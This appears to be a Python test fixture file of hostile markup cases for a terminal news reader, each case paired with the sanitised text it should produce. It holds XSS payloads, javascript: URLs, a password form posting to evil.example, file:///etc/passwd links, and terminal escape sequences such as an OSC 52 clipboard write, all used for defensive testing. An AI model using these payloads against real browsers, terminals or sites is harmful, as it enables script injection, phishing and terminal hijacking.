"""Markup of any kind, in a title or in the body of a post."""

from dataclasses import dataclass

from tests.hostile.case import Case


@dataclass(frozen=True, slots=True, kw_only=True)
class Markup(Case):
    text: str
    """What is shown of it, blocks parted by an empty line."""
    title: str = ""
    """The markup, where it is a title; else ""."""
    html: str = ""
    """The markup, where it is a body; else ""."""
    links: tuple[str, ...] = ()
    """The addresses that can be opened."""


def _title(name: str, wrong: str, title: str, text: str, does: str) -> Markup:
    return Markup(name=name, wrong=wrong, does=does, title=title, text=text)


def _body(
    name: str, wrong: str, html: str, text: str, does: str, links: tuple[str, ...] = ()
) -> Markup:
    return Markup(name=name, wrong=wrong, does=does, html=html, text=text, links=links)


_AS_TEXT = "it is shown as it is written, and a click on it does nothing"
_HOST = "https://news.example"

_TITLES = (
    _title(
        "action of Textual", "[@click] runs one of the program's actions",
        "[@click=app.quit]Press[/] here", "[@click=app.quit]Press[/] here", _AS_TEXT,
    ),
    _title(
        "end of nothing", "[/] without a beginning is an error that ends programs",
        "News [/] and [/bold]", "News [/] and [/bold]", _AS_TEXT,
    ),
    _title(
        "link of Rich", "[link] makes words lead to a file",
        "[link=file:///etc/passwd]News[/link]", "[link=file:///etc/passwd]News[/link]", _AS_TEXT,
    ),
    _title(
        "variables of Textual", "$error and ${x} stand for colours", "Costs $text [$error]${x}",
        "Costs $text [$error]${x}", _AS_TEXT,
    ),
    _title(
        "escaped brackets", "a backslash before a bracket is lost where markup is read",
        r"C:\[bold] \\[/]", r"C:\[bold] \\[/]", _AS_TEXT,
    ),
    _title(
        "emoji of Rich", ":skull: becomes a picture", "News :skull: :warning:",
        "News :skull: :warning:", _AS_TEXT,
    ),
    _title(
        "HTML in a title", "tags that say how words look", "<b>Sea</b> <script>x</script>news",
        "Sea <script>x</script>news",
        "tags that titles hold are left out, all others are shown as text",
    ),
    _title(
        "references of references", "&amp;lt; is decoded again and again until it is a tag",
        "a &amp;amp;lt;b&amp;amp;gt; c", "a &lt;b&gt; c",
        "it is decoded twice, for sites that write it twice, and what comes of it is text",
    ),
    _title(
        "controls by reference", "&#27; and &#x9b; are ESC and CSI once they are decoded",
        "Sea&#27;]0;evil&#7; news&#x9b;2J", "Sea news\u203a2J",
        "the gate comes after the decoding: the sequence is left out, the C1 is Windows' letter",
    ),
    _title(
        "format of Python", "{0.__class__} and %s are filled in by some programs",
        "{0.__class__} %(x)s %n {}", "{0.__class__} %(x)s %n {}", _AS_TEXT,
    ),
)  # fmt: skip

_BODIES = (
    _body(
        "script", "it runs in a browser", "<p>Sea<script>alert('</p>')</script> news</p>",
        "Sea news", "it is left out with what it holds",
    ),
    _body(
        "script without an end", "all that follows belongs to it",
        "<p>Sea</p><script>alert(1)<p>news", "Sea", "it is left out, to the end",
    ),
    _body(
        "style that hides and shows", "CSS puts other words in the place of these",
        "<style>p:after{content:'evil'}</style><p>Sea</p>", "Sea",
        "it is left out with what it holds",
    ),
    _body(
        "text area", "what it holds is text and no markup", "<textarea><p>x</textarea><p>Sea</p>",
        "Sea", "it is left out with what it holds",
    ),
    _body(
        "noscript", "read in two ways, by whether scripts run",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript><p>Sea</p>",
        "'>\n\nSea", "it is read as where scripts run: a picture that nobody fetches, and text",
    ),
    _body(
        "drawing that holds a page", "SVG has scripts and HTML of its own",
        "<svg><script>x</script><foreignObject><p>evil</p></foreignObject></svg><p>Sea</p>",
        "Sea", "it is left out with what it holds",
    ),
    _body(
        "frame", "another page within this one",
        f"<p>Sea</p><iframe src='{_HOST}/player'></iframe>",
        "Sea\n\nEmbedded: news.example", "it is a link that can be opened", (f"{_HOST}/player",),
    ),
    _body(
        "frame that holds its page", "srcdoc and a script as its address",
        "<p>Sea</p><iframe srcdoc='<p>evil' src='javascript:alert(1)'></iframe>", "Sea",
        "it is left out",
    ),
    _body(
        "template", "a part of a page that is not shown", "<template><p>evil</template><p>Sea",
        "Sea", "it is left out with what it holds",
    ),
    _body(
        "hidden preview", "words for a mailbox's list that no reader of the letter sees",
        "<div style='display:none;max-height:0'>evil</div><p>Sea</p>", "Sea",
        "it is left out with what it holds",
    ),
    _body(
        "handlers", "attributes that run when something happens",
        "<p onclick='alert(1)' style='x:expression(1)'>Sea<img src=x onerror=alert(1) alt=s></p>",
        "Sea", "attributes like these are not read",
    ),
    _body(
        "form", "a field for a password, sent elsewhere",
        "<form action='https://evil.example/'><label>Password<input type=password></label>"
        "<button>Send</button></form><p>Sea</p>",
        "Sea", "fields, labels and buttons are left out",
    ),
    _body(
        "base", "an element that changes where every link leads",
        "<base href='https://evil.example/'><a href='/sea'>Sea</a>", "Sea",
        "it is not read: links are joined with the address of the post", (f"{_HOST}/sea",),
    ),
    _body(
        "refresh", "an element that leads to another page by itself",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'><p>Sea</p>", "Sea",
        "it is not read",
    ),
    _body(
        "comments", "the ways to end one differ: <!-->, --!>, and no end",
        "<!-->Sea<!-- a --> news<!-- evil", "Sea news", "they are left out as browsers do",
    ),
    _body(
        "CDATA", "a section of XML in a page of HTML", "<p>Sea<![CDATA[<script>x</script>]]></p>",
        "Sea", "it is left out with what it holds",
    ),
    _body(
        "tags that are broken off", "quotes that never end swallow the page",
        "<p>Sea</p><a href='x><p>news</p><b", "Sea\n\nnews",
        "a quote that never ends is a letter, and what has no end at all is left out",
        (f"{_HOST}/post/'x",),
    ),
    _body(
        "references in a body", "a number beyond Unicode, a null, a surrogate, no number",
        "<p>Sea&#x110000;&#0;&#xd800;&#99999999999;&#;</p>",
        "Sea\ufffd\ufffd\ufffd\ufffd&#;", "they are the sign for what cannot be read",
    ),
    _body(
        "sequence in pieces", "each element holds a part of it",
        "<p>Sea&#27;<b>]52;c;</b><i>ZXZpbA==</i>&#7;</p>", "Sea]52;c;ZXZpbA==",
        "the controls are left out, and the words can be seen",
    ),
    _body(
        "marks in pieces", "each element adds four marks to the same letter",
        "<p>S" + "<b>\u0335\u0335\u0335\u0335</b>" * 20 + "ea</p>", "Sea",
        "an element's text does not begin with marks",
    ),
    _body(
        "direction by an element", "bdo turns its text around", "<p><bdo dir=rtl>fdp.exe</bdo></p>",
        "fdp.exe", "it is read as text in the order of its letters",
    ),
    _body(
        "code of no language", "a class that names a lexer, or a file",
        "<pre class='language-../../etc/passwd'>x &lt; y</pre>", "x < y",
        "it is code without colours",
    ),
)  # fmt: skip

CASES = (*_TITLES, *_BODIES)
